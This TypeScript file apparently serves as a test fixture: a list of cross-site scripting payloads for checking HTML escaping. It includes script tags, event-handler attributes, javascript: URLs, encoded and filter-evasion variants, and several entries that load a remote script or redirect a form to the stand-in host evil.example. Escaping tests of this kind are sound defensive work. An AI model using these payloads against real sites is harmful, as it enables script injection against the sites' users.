/**
 * Texts that become markup or a script where one of the five special characters is not escaped: in
 * text, in attributes with either quote, in a text area, a title, a comment or a URL.
 */
export const MARKUP_PAYLOADS: readonly string[] = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
  ],
  ...['<script/x>alert(1)</script>', '<<script>alert(1)//<</script>', '<script>alert`1`</script>'],
  ...[
    '<script\n>alert(1)</script\n>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)//',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    "<img src='x' onerror='alert(1)'>",
  ],
  ...[
    '<img/src/onerror=alert(1)>',
    '<IMG SRC=javascript:alert(1)>',
    '<img src=x onerror=alert(1)//',
  ],
  ...['<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>'],
  ...[
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  ],
  ...['<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<body onload=alert(1)>'],
  ...[
    '<iframe src=javascript:alert(1)></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  ...[
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<base href=//evil.example/>',
  ],
  ...[
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>*{background:url(//evil.example)}</style>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<form action=//evil.example><input name=x>',
  ],
  ...[
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<button formaction=//evil.example>x',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
  ],
  ...[
    '<marquee onstart=alert(1)>',
    '<a href=javascript:alert(1)>x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
  ],
  ...[
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
  ],
  ...[
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
  ],
  ...['" style="position:fixed" x="', '"/><svg/onload=alert(1)>', '`><script>alert(1)</script>'],
  ...[
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
  ],
  ...[
    '</p></main></body></html><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
  ],
  ...[
    '<!--<script>alert(1)</script>',
    '<!-- &lt;b&gt; &#60;i&#62;',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  ...[
    '\\"><script>alert(1)</script>',
    '\\u003cscript\\u003ealert(1)',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ],
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html;<script>alert(1)</script>',
  ],
  ...[
    'vbscript:msgbox(1)',
    '//evil.example',
    'jaVasCript:/*-/*`/*\'/*"/**/(/* */oNcliCk=alert() )//<svg/onload=alert()>',
  ],
];
